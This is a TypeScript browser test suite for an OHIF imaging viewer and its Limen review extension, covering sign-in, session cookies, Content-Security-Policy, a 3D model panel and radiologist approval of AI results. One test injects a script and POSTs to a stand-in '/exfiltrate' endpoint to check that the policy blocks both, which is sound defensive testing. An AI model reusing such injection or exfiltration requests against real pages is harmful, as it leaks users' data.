/**
 * The prebuilt OHIF viewer under `/viewer` in headless Chromium, served by the gateway's viewer
 * routes with the extension built from `ohif-extension/`: sign-in through the session exchange,
 * the study list renders (its QIDO request authenticated by the cookie), the page is cross-origin
 * isolated, no asset is missing, the Limen extension registers its panels, the 3D panel draws a
 * GLB (and hides it segment by segment), and the review panel decides through the review API.
 * All of it under the viewer's Content-Security-Policy: any violation fails the test it happens
 * in, and a script injected into the page is refused.
 *
 * Needs the viewer (`npm run fetch-viewer`, run by `npm install`) and Debian's chromium.
 */
import { expect } from 'chai';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, type BrowserContext, type Page } from 'playwright-core';
import { buildExtension } from '../../ohif-extension/build.js';
import { PROJECT_ROOT } from '../../scripts/fetch-ohif.mjs';
import { PEERS, requirePeers } from '../support/peers.js';
import { makeTestGlb, TEST_SEGMENTS } from './support/glb.js';
import { startViewerServer, testReview, type ViewerServer } from './support/viewer-server.js';
import { canvasPixels } from '../support/canvas-pixels.js';
import { directives, inlineScriptHashesOf, watchCsp, type CspViolations } from '../support/csp.js';
import { until } from '../support/wait.js';

const VIEWER_DIR = join(PROJECT_ROOT, 'viewer-dist');
const STUDY = '2.25.31415926535897932384626433832795';
const OTHER = '2.25.27182818284590452353602874713526';
/** Reprocessed while its page is open. */
const REPROCESSED = '2.25.16180339887498948482045868343656';
/** Decided by another reviewer while its page is open. */
const RACED = '2.25.14142135623730950488016887242096';
/** Opened by another reviewer before this page's. */
const SHARED = '2.25.22360679774997896964091736687312';
/** Opened by a session whose token was issued to nobody. */
const UNNAMED = '2.25.26457513110645905905016157536392';
/** Decided while the gateway is unreachable, then while the session has expired. */
const UNLUCKY = '2.25.17320508075688772935274463415058';
/** The 3D panel's background (model-viewer.ts MODEL_BACKGROUND). */
const BACKGROUND: [number, number, number] = [0x0b, 0x10, 0x30];
const SCREENSHOTS = process.env.LIMEN_SCREENSHOT_DIR;

/** Pixels of the panel's canvas that differ from the background. */
const modelPixels = (page: Page): Promise<number> => canvasPixels(page, '#limen-test-3d canvas', { unlike: BACKGROUND });

const nextFrames = (page: Page) => page.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));

describe('ohif: the viewer under /viewer with the Limen extension (headless Chromium)', function () {
  this.timeout(120_000);
  let server: ViewerServer | undefined;
  let context: BrowserContext | undefined;
  let page: Page;
  /**
   * Mounts one of the extension's panels as OHIF would, in a fixed box of the page; its unmount is
   * kept on the page (`unmount-<id>`), so a second panel can be taken away again.
   */
  const mountPanel = (o: { module: 'review' | 'model3d'; id: string; left?: number; height: number; props?: object }) =>
    page.evaluate(
      ({ module, id, left, height, props }) => {
        const em = (window as unknown as { extensionManager: { getModuleEntry(id: string): { component: { mount(el: HTMLElement, p: object): () => void } } } }).extensionManager;
        const el = document.createElement('div');
        el.id = id;
        Object.assign(el.style, { position: 'fixed', left: `${left}px`, top: '10px', width: '360px', height: `${height}px`, zIndex: '1000', background: '#000' });
        document.body.appendChild(el);
        (window as unknown as Record<string, unknown>)[`unmount-${id}`] = em.getModuleEntry(`limen.panelModule.${module}`).component.mount(el, props);
      },
      { left: 10, props: {}, ...o },
    );
  let work: string | undefined;
  let glb: Uint8Array;
  const consoleErrors: string[] = [];
  const failed: string[] = [];
  let cspViolations: CspViolations = [];

  before(async function () {
    requirePeers(this, 'chromium');
    if (!existsSync(join(VIEWER_DIR, 'index.html'))) {
      const line = `the OHIF viewer is not installed in ${VIEWER_DIR} (npm run fetch-viewer)`;
      if (process.env.CI === 'true') throw new Error(line);
      process.stdout.write(`  skipped: ${line}\n`);
      this.skip();
    }
    work = mkdtempSync(join(tmpdir(), 'limen-viewer-'));
    const bundle = join(work, 'limen-extension.js');
    await buildExtension({ outFile: bundle });
    glb = await makeTestGlb();
    server = await startViewerServer({
      port: Number(process.env.LIMEN_VIEWER_TEST_PORT) || 0,
      viewerDir: VIEWER_DIR,
      extensionBundle: bundle,
      glb,
      reviews: [testReview(STUDY, glb), testReview(OTHER, glb, { status: 'approved', decidedBy: 'dr-curie', decidedAt: '2025-03-02T10:00:00.000Z', comment: 'fine' })],
    });
    context = await chromium.launchPersistentContext(join(work, 'profile'), {
      executablePath: PEERS.chromium,
      headless: true,
      viewport: { width: 1400, height: 900 },
      args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    });
    page = context.pages()[0] ?? (await context.newPage());
    page.on('console', (m) => m.type() === 'error' && consoleErrors.push(m.text()));
    page.on('pageerror', (e) => consoleErrors.push(`pageerror: ${e.message}`));
    page.on('response', (r) => r.status() >= 400 && failed.push(`${r.status()} ${new URL(r.url()).pathname}`));
    cspViolations = await watchCsp(context, page);
  });

  afterEach(function () {
    // Whatever a test did, the viewer (and the sign-in page) ran within their policies.
    const seen = cspViolations.splice(0);
    if (seen.length > 0 && this.currentTest?.state === 'failed') process.stdout.write(`  Content-Security-Policy violations:\n    ${seen.join('\n    ')}\n`);
    else expect(seen, 'Content-Security-Policy violations').to.deep.equal([]);
  });

  after(async () => {
    await context?.close();
    await server?.close();
    if (work) rmSync(work, { recursive: true, force: true });
  });

  it('sends a visitor without a session to the sign-in page, and back after the token exchange', async () => {
    await page.goto(`${server!.url}/viewer/`);
    expect(new URL(page.url()).pathname).to.equal('/viewer/sign-in');
    await page.fill('#token', 'modality-token');
    await page.click('button[type=submit]');
    await page.waitForSelector('[role=alert]:not(:empty)');
    expect(await page.textContent('[role=alert]')).to.match(/role "modality" may not/);
    await page.fill('#token', 'reviewer-token');
    // The refused attempt above answered 403 on purpose; from here on nothing may fail.
    failed.length = 0;
    consoleErrors.length = 0;
    await page.click('button[type=submit]');
    await page.waitForURL(`${server!.url}/viewer/`);
    const cookies = await context!.cookies(server!.url);
    const session = cookies.find((c) => c.name === 'limen_session');
    expect(session, 'session cookie').to.not.equal(undefined);
    expect(session!.httpOnly).to.equal(true);
    expect(session!.sameSite).to.equal('Strict');
  });

  it('boots: the study list renders from a cookie-authenticated QIDO, isolated, nothing missing', async () => {
    await page.waitForSelector('text=Study List', { timeout: 60_000 });
    await page.waitForSelector('text=No studies available', { timeout: 30_000 });
    expect(server!.requests.filter((r) => r.path === '/dicomweb/studies').map((r) => r.status)).to.include(200);
    expect(await page.evaluate(() => window.crossOriginIsolated)).to.equal(true);
    expect(failed, 'responses >= 400').to.deep.equal([]);
    expect(consoleErrors, 'console errors').to.deep.equal([]);
    const assets = server!.requests.filter((r) => r.path.startsWith('/viewer/') && /\.(js|css|woff2)$/.test(r.path));
    expect(assets.length).to.be.greaterThan(5);
    expect(server!.requests.filter((r) => !r.path.startsWith('/viewer') && /\.(js|css|woff2|wasm)$/.test(r.path)), 'assets asked for outside /viewer').to.deep.equal([]);
  });

  it("runs under the app page's policy: its own scripts and inline ones by hash, its own origin only; an injected script is refused", async () => {
    const res = await context!.request.get(`${server!.url}/viewer/`);
    expect(res.status()).to.equal(200);
    const policy = res.headers()['content-security-policy'] ?? '';
    const d = directives(policy);
    const hashes = inlineScriptHashesOf(await res.text());
    expect(hashes.length, 'inline scripts of index.html').to.equal(2);
    // 'unsafe-eval': ndarray (the SEG adapter) and the codecs' embind glue compile with `new Function` (gateway/viewer/csp.ts).
    expect(d.get('script-src')).to.deep.equal(["'self'", ...hashes, "'unsafe-eval'", "'wasm-unsafe-eval'"]);
    expect(d.get('default-src')).to.deep.equal(["'self'"]);
    expect(d.get('connect-src')).to.deep.equal(["'self'"]);
    expect(d.get('object-src')).to.deep.equal(["'none'"]);
    expect(d.get('base-uri')).to.deep.equal(["'self'"]);
    expect(d.get('form-action')).to.deep.equal(["'self'"]);
    expect(d.get('frame-ancestors')).to.deep.equal(["'self'"]);
    expect(d.get('worker-src')).to.deep.equal(["'self'"]);
    expect(policy, 'no other origin, no blob: or wildcard source').to.not.match(/'unsafe-hashes'|\*|https?:|blob:/);
    expect(d.get('script-src')).to.not.include("'unsafe-inline'");

    // The open page: a script put into it does not run, nor does a request leave for another origin.
    const errorsBefore = consoleErrors.length;
    const outcome = await page.evaluate(async () => {
      document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.__injected = 1' }));
      const sent = await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      );
      return { injected: (window as unknown as { __injected?: number }).__injected, sent };
    });
    expect(outcome).to.deep.equal({ injected: undefined, sent: 'refused' });
    // Each refusal is reported by the page's event, and by Chromium's console lines.
    const events = () => cspViolations.filter((v) => v.startsWith('enforce '));
    await until(() => (events().length >= 2 && cspViolations.length >= 4 ? true : undefined), 5_000, 'both refusals reported');
    await new Promise((r) => setTimeout(r, 200));
    expect(events().map((v) => v.split(' at ')[0])).to.have.members(['enforce script-src-elem: inline', 'enforce connect-src: http://127.0.0.2:9/exfiltrate']);
    expect(cspViolations.filter((v) => !v.startsWith('enforce ')).every((v) => /^console: .*Content Security Policy/.test(v)), 'the console lines').to.equal(true);
    cspViolations.length = 0;
    // The console errors of the two refusals, and nothing else, are expected here.
    expect(consoleErrors.slice(errorsBefore).filter((e) => !/Content Security Policy/.test(e)), 'console errors').to.deep.equal([]);
    consoleErrors.length = errorsBefore;
  });

  it('loads the Limen extension and registers its review and 3D panels', async () => {
    const registered = await page.evaluate(() => {
      const em = (window as unknown as { extensionManager: { registeredExtensionIds: string[]; getModuleEntry(id: string): { name: string; component?: { mount?: unknown } } | undefined } }).extensionManager;
      // No inner named functions here: the TypeScript loader would wrap them in a helper the page lacks.
      return {
        ids: em.registeredExtensionIds,
        ...Object.fromEntries(
          ['review', 'model3d'].map((n) => {
            const e = em.getModuleEntry(`limen.panelModule.${n}`);
            return [n, e ? { name: e.name, mountable: typeof e.component?.mount === 'function' } : null];
          }),
        ),
      } as { ids: string[]; review: unknown; model3d: unknown };
    });
    expect(registered.ids).to.include('limen');
    expect(registered.review).to.deep.equal({ name: 'review', mountable: true });
    expect(registered.model3d).to.deep.equal({ name: 'model3d', mountable: true });
  });

  it('the 3D panel draws the GLB with its segments and colours, and hides them one by one', async () => {
    await mountPanel({ module: 'model3d', id: 'limen-test-3d', height: 620, props: { studyInstanceUID: STUDY } });
    await page.waitForSelector('#limen-test-3d [data-limen-load="shown"]', { timeout: 30_000 });
    await nextFrames(page);
    const labels = await page.$$eval('#limen-test-3d [data-limen-model-segments] li', (lis) => lis.map((li) => li.textContent?.trim()));
    expect(labels).to.deep.equal(TEST_SEGMENTS.map((s) => s.label));
    const swatch = await page.$eval('#limen-test-3d [data-limen-model-segments] li span', (el) => getComputedStyle(el).backgroundColor);
    expect(swatch).to.equal('rgb(222, 120, 89)');
    expect(await page.textContent('#limen-test-3d')).to.not.match(/not the one under review|not verified/);
    if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, 'viewer-3d-panel.png') });

    const both = await modelPixels(page);
    expect(both, 'model pixels').to.be.greaterThan(2000);
    const boxes = page.locator('#limen-test-3d input[type=checkbox]');
    await boxes.nth(0).uncheck();
    await nextFrames(page);
    const spleenOnly = await modelPixels(page);
    expect(spleenOnly).to.be.greaterThan(100).and.lessThan(both * 0.7);
    await boxes.nth(1).uncheck();
    await nextFrames(page);
    expect(await modelPixels(page), 'nothing drawn with every segment hidden').to.be.lessThan(50);
    await boxes.nth(0).check();
    await boxes.nth(1).check();
    await nextFrames(page);
    expect(await modelPixels(page)).to.equal(both);
  });

  it('the review panel lists the queue, shows the notice and the result, and approves through the API', async () => {
    await page.evaluate((uid) => {
      document.getElementById('limen-test-3d')?.remove();
      // The study "on screen", as a viewer route's URL would name it.
      history.replaceState(history.state, '', `/viewer/?StudyInstanceUIDs=${uid}`);
    }, STUDY);
    await mountPanel({ module: 'review', id: 'limen-test-review', height: 700 });
    await page.evaluate(() => {
      const w = window as unknown as { commandsManager: { runCommand(name: string, options?: object, context?: string): unknown } };
      void w.commandsManager.runCommand('limenOverlaySeg', {}, 'VIEWER');
    });
    const panel = '#limen-test-review';
    await page.waitForSelector(`${panel} [data-limen-current="${STUDY}"]`, { timeout: 20_000 });
    await page.waitForSelector(`${panel} [data-limen-queue="Decided"] li`);
    // Opening the study took it into review: the queue, listed again once the review loaded, shows so without a Refresh.
    await page.waitForSelector(`${panel} [data-limen-queue="In review"] >> text=In review (1)`);
    const text = (await page.textContent(panel)) ?? '';
    expect(text).to.include('AI-generated result — requires approval by a radiologist before it is used');
    expect(text).to.match(/Pending \(0\)/).and.match(/Decided \(1\)/);
    expect(await page.textContent(`${panel} [data-limen-status]`)).to.match(/^In review by dr-lovelace since \d\d:\d\d$/);
    expect(await page.$(`${panel} [data-limen-opened-first]`), 'the first reviewer is not warned about themself').to.equal(null);
    expect(text).to.include('Liver').and.include('1,523 mL').and.include('187 mL');
    expect(text).to.include('abdomen-ct 1.2.0');
    expect(await page.getAttribute(`${panel} a[target=_blank]`, 'href')).to.equal(`${server!.url}/api/v1/models/abdomen-ct/card`);

    const reject = page.locator(`${panel} button:has-text("Reject")`);
    expect(await reject.isDisabled(), 'reject needs a comment').to.equal(true);
    await page.fill(`${panel} textarea`, '  Liver boundary checked on all slices  ');
    expect(await reject.isDisabled()).to.equal(false);
    if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, 'viewer-review-panel.png') });
    await page.click(`${panel} button:has-text("Approve")`);
    await page.waitForSelector(`${panel} [data-limen-status="approved"]`);
    const shown = server!.reviews.get(STUDY)!;
    expect(server!.decisions).to.deep.equal([
      {
        studyInstanceUID: STUDY,
        body: { decision: 'approve', comment: 'Liver boundary checked on all slices', segSOPInstanceUID: shown.seg.sopInstanceUID, glbSha256: shown.glb.sha256 },
        user: 'dr-lovelace',
      },
    ]);
    await page.waitForSelector(`${panel} [data-limen-queue="Decided"] >> text=Decided (2)`);
    expect(await page.$(`${panel} [data-limen-decision]`), 'no decision form once decided').to.equal(null);
    expect(consoleErrors, 'console errors').to.deep.equal([]);
  });

  /** Puts a study "on screen" for the review panel mounted above, as a viewer route's URL would. */
  const showStudy = async (uid: string) => {
    await page.evaluate((u) => {
      history.replaceState(history.state, '', `/viewer/?StudyInstanceUIDs=${u}`);
      const w = window as unknown as { commandsManager: { runCommand(name: string, options?: object, context?: string): unknown } };
      void w.commandsManager.runCommand('limenOverlaySeg', {}, 'VIEWER');
    }, uid);
    await page.waitForSelector(`#limen-test-review [data-limen-current="${uid}"]`, { timeout: 20_000 });
  };
  const panel = '#limen-test-review';
  /** Mounts a review panel (after a page load, or a second one beside it). */
  const mountReviewPanel = (id = 'limen-test-review', left = 10) => mountPanel({ module: 'review', id, left, height: 700 });
  /** The local time of day the panel shows for an ISO date (`clockTime`), in the page's time zone. */
  const pageClockTime = (iso: string) => page.evaluate((i) => new Date(i).toTimeString().slice(0, 5), iso);

  it('a study reprocessed while open is not approved unseen: the decision pins SEG and GLB, 409 stale shows the new result, approvable once the viewer shows its SEG', async () => {
    server!.reviews.set(REPROCESSED, testReview(REPROCESSED, glb));
    await showStudy(REPROCESSED);
    const seen = structuredClone(server!.reviews.get(REPROCESSED)!);
    await page.fill(`${panel} textarea`, 'Checked the liver');
    // An admin reprocesses the study: a new SEG and model, other volumes.
    Object.assign(server!.reviews.get(REPROCESSED)!, {
      seg: { seriesInstanceUID: `${REPROCESSED}.10`, sopInstanceUID: `${REPROCESSED}.10.1` },
      glb: { url: `/api/v1/results/${REPROCESSED}/model.glb`, sha256: 'f'.repeat(64) },
      segments: [{ number: 1, label: 'Liver', volumeMl: 1611.2, color: [222, 120, 89] }],
    });
    await page.click(`${panel} button:has-text("Approve")`);
    await page.waitForSelector(`${panel} [role=alert][data-limen-decision-notice="stale"]`);
    expect(server!.decisions.at(-1)!.body).to.deep.include({ decision: 'approve', segSOPInstanceUID: seen.seg.sopInstanceUID, glbSha256: seen.glb.sha256 });
    expect(server!.reviews.get(REPROCESSED)!.status, 'not approved').to.equal('in_review');
    const notice = (await page.textContent(`${panel} [data-limen-decision-notice]`)) ?? '';
    expect(notice).to.include('The result changed since you opened it (reprocessed): look at the new result before deciding');
    // The new result is what the panel shows now; the comment is still there.
    await page.waitForSelector(`${panel} [data-limen-segments] >> text=1,611 mL`);
    expect(await page.textContent(`${panel} [data-limen-segments]`)).to.not.include('1,523 mL');
    expect(await page.inputValue(`${panel} [data-limen-decision] textarea`)).to.equal('Checked the liver');
    // The image viewer still shows the SEG this page opened with: approving now would pin one never seen there.
    const approve = page.locator(`${panel} [data-limen-decision] button:has-text("Approve")`);
    expect(await approve.isDisabled(), 'approve waits for the new SEG in the viewer').to.equal(true);
    expect(await page.textContent(`${panel} [data-limen-decision] [data-limen-approve-blocked]`)).to.equal('Reload to see the new segmentation before approving');
    expect(await page.locator(`${panel} [data-limen-decision] button:has-text("Reject")`).isDisabled(), 'a rejection approves nothing').to.equal(false);
    if (SCREENSHOTS) await page.screenshot({ path: join(SCREENSHOTS, 'viewer-review-stale.png') });

    await page.click(`${panel} [data-limen-decision-notice] button:has-text("Reload")`);
    await page.waitForSelector('text=Study List', { timeout: 60_000 });
    await mountReviewPanel();
    await showStudy(REPROCESSED);
    expect(await page.inputValue(`${panel} [data-limen-decision] textarea`), 'the comment survives the reload').to.equal('Checked the liver');
    expect(await approve.isDisabled(), 'the viewer was given the new SEG').to.equal(false);
    expect(await page.$(`${panel} [data-limen-approve-blocked]`)).to.equal(null);
    await page.click(`${panel} button:has-text("Approve")`);
    await page.waitForSelector(`${panel} [data-limen-status="approved"]`);
    expect(server!.decisions.at(-1)!.body).to.deep.equal({ decision: 'approve', comment: 'Checked the liver', segSOPInstanceUID: `${REPROCESSED}.10.1`, glbSha256: 'f'.repeat(64) });
    expect(await page.$(`${panel} [data-limen-decision-notice]`), 'the stale notice goes once decided').to.equal(null);
  });

  it('after another reviewer decided first, says the decision was NOT recorded, by whom, and keeps the comment', async () => {
    server!.reviews.set(RACED, testReview(RACED, glb));
    await showStudy(RACED);
    await page.fill(`${panel} textarea`, 'Spleen slightly overestimated');
    Object.assign(server!.reviews.get(RACED)!, { status: 'rejected', decidedBy: 'dr-curie', decidedAt: '2025-03-02T10:00:00.000Z', comment: 'wrong kidney' });
    await page.click(`${panel} button:has-text("Approve")`);
    const notice = `${panel} [role=alert][data-limen-decision-notice="already-decided"]`;
    await page.waitForSelector(notice);
    const text = (await page.textContent(notice)) ?? '';
    expect(text).to.include('Your approval was NOT recorded: dr-curie had already rejected this result on');
    expect(text).to.include('wrong kidney');
    expect(await page.inputValue(`${notice} [data-limen-unrecorded-comment]`)).to.equal('Spleen slightly overestimated');
    expect(await page.$(`${panel} [data-limen-decision]`), 'the form is gone, the notice stays').to.equal(null);
    await page.waitForSelector(`${panel} [data-limen-status="rejected"]`);
  });

  it('a second reviewer is told who opened the study first and since when; the opening stays theirs', async () => {
    server!.reviews.set(SHARED, testReview(SHARED, glb));
    // dr-curie opens it first, with her own token.
    const first = await fetch(`${server!.url}/api/v1/reviews/${SHARED}`, { headers: { authorization: 'Bearer curie-token' } });
    expect(first.status).to.equal(200);
    const { openedAt } = server!.reviews.get(SHARED)!;
    const since = await pageClockTime(openedAt!);
    await showStudy(SHARED);
    expect(await page.textContent(`${panel} [data-limen-status="in_review"]`)).to.equal(`In review by dr-curie since ${since}`);
    expect(await page.textContent(`${panel} [role=status][data-limen-opened-first="dr-curie"]`)).to.equal(`dr-curie opened this study first at ${since}: check with them before deciding`);
    expect(server!.reviews.get(SHARED), 'opening it again changes neither who nor when').to.deep.include({ status: 'in_review', openedBy: 'dr-curie', openedAt });
    // The panel stayed mounted while another study was opened: its queue is listed again without a Refresh.
    await page.waitForSelector(`${panel} [data-limen-queue="In review"] button[title="${SHARED}"] >> text=In review by dr-curie since ${since}`);
  });

  it('a session whose token names no user is not told that someone else opened the study it opened', async () => {
    server!.reviews.set(UNNAMED, testReview(UNNAMED, glb));
    const other = '#limen-test-review-unnamed';
    // This page signs in again with that token; a second panel reads the new session.
    expect(await page.evaluate(() => fetch('/api/v1/session', { method: 'POST', headers: { authorization: 'Bearer unnamed-reviewer-token' } }).then((r) => r.status))).to.equal(201);
    try {
      await mountReviewPanel(other.slice(1), 400);
      await page.waitForSelector(`${other} [data-limen-signed-in]`);
      expect(await page.textContent(`${other} [data-limen-signed-in]`), 'named as its decisions will be').to.equal('Signed in as token:tok-u (reviewer)');
      await showStudy(UNNAMED);
      await page.waitForSelector(`${other} [data-limen-current="${UNNAMED}"]`);
      expect(server!.reviews.get(UNNAMED)).to.deep.include({ openedBy: 'token:tok-u' });
      expect(await page.textContent(`${other} [data-limen-status]`)).to.match(/^In review by token:tok-u since \d\d:\d\d$/);
      expect(await page.$(`${other} [data-limen-opened-first]`), 'its own opening').to.equal(null);
      // The first panel's reviewer, dr-lovelace, did not open it.
      expect(await page.$(`${panel} [data-limen-opened-first="token:tok-u"]`)).to.not.equal(null);
    } finally {
      await page.evaluate((id) => {
        const w = window as unknown as Record<string, (() => void) | undefined>;
        w[`unmount-${id}`]?.();
        document.getElementById(id)?.remove();
      }, other.slice(1));
      await page.evaluate(() => fetch('/api/v1/session', { method: 'POST', headers: { authorization: 'Bearer reviewer-token' } }));
    }
  });

  it('says the gateway cannot be reached (not "Failed to fetch"), in the review and the 3D panel', async () => {
    server!.reviews.set(UNLUCKY, testReview(UNLUCKY, glb));
    await showStudy(UNLUCKY);
    await page.fill(`${panel} textarea`, 'Kept across sign-in');
    await page.route('**/api/v1/**', (route) => route.abort('internetdisconnected'));
    try {
      await page.click(`${panel} button:has-text("Approve")`);
      await page.waitForSelector(`${panel} [data-limen-decision] [role=alert]`);
      expect(await page.textContent(`${panel} [data-limen-decision] [role=alert]`)).to.equal('The gateway cannot be reached: your decision was not recorded.');

      await mountPanel({ module: 'model3d', id: 'limen-test-3d-down', left: 400, height: 500, props: { studyInstanceUID: OTHER } });
      await page.waitForSelector('#limen-test-3d-down >> text=The model could not be shown');
      expect(await page.textContent('#limen-test-3d-down')).to.include('The model could not be shown: the gateway cannot be reached').and.not.include('Failed to fetch');
    } finally {
      await page.unroute('**/api/v1/**');
      await page.evaluate(() => document.getElementById('limen-test-3d-down')?.remove());
    }
    expect(server!.reviews.get(UNLUCKY)!.status, 'opened, not decided').to.equal('in_review');
  });

  it('on 401 (session expired) shows the signed-out state with the sign-in link, and the comment survives the sign-in', async () => {
    await context!.clearCookies();
    await page.click(`${panel} button:has-text("Approve")`);
    await page.waitForSelector(`${panel} [data-limen-signed-out]`);
    expect(await page.textContent(`${panel} [data-limen-signed-out]`)).to.include('Your session has ended');
    expect(await page.inputValue(`${panel} [data-limen-kept-comment]`)).to.equal('Kept across sign-in');
    expect(await page.$(`${panel} [data-limen-decision]`), 'no decision form while signed out').to.equal(null);
    const href = (await page.getAttribute(`${panel} [data-limen-signed-out] a`, 'href'))!;
    expect(href).to.equal(`/viewer/sign-in?next=${encodeURIComponent(`/viewer/?StudyInstanceUIDs=${UNLUCKY}`)}`);

    await page.goto(server!.url + href);
    await page.fill('#token', 'reviewer-token');
    await page.click('button[type=submit]');
    await page.waitForURL((u) => u.pathname === '/viewer/');
    await page.waitForSelector('text=Study List', { timeout: 60_000 });
    await mountReviewPanel();
    await showStudy(UNLUCKY);
    expect(await page.inputValue(`${panel} [data-limen-decision] textarea`)).to.equal('Kept across sign-in');
  });

  it('signs out: DELETE /api/v1/session, then the sign-in page; no comment is left behind', async () => {
    await page.click(`${panel} [data-limen-sign-out]`);
    await page.waitForURL((u) => u.pathname === '/viewer/sign-in');
    expect(server!.requests.filter((r) => r.method === 'DELETE' && r.path === '/api/v1/session').map((r) => r.status)).to.deep.equal([204]);
    expect((await context!.cookies(server!.url)).find((c) => c.name === 'limen_session'), 'session cookie').to.equal(undefined);
    expect(await page.evaluate(() => Object.keys(sessionStorage).filter((k) => k.startsWith('limen.')))).to.deep.equal([]);
  });
});
